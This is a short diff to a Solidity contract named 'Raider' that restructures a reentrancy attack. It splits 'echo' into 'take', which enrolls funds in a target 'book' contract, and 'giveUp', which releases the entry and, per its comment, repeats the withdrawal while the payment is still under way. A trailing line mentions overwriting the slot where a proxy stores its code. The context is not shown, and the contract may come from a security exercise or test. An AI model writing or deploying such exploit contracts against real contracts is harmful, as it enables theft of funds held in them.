@@ -47,12 +47,23 @@ contract Raider {
         _out();
     }
 
-    /// Gives a number up, and again while it is being paid.
-    function echo(uint256 id, uint256 times) external payable {
+    /// Takes a number, to give it up.
+    function take(uint256 id) public payable {
         book.enroll{value: msg.value}(id, 1);
-        (current, left) = (id, times);
-        book.release(id);
+        current = id;
+    }
+
+    /// Gives the number up, and again while it is being paid.
+    function giveUp(uint256 times) public {
+        left = times;
+        book.release(current);
         _out();
+    }
+
+    /// Both in one transaction.
+    function echo(uint256 id, uint256 times) external payable {
+        take(id);
+        giveUp(times);
     }
 
     /// Writes the record that stands where the proxy keeps its code.
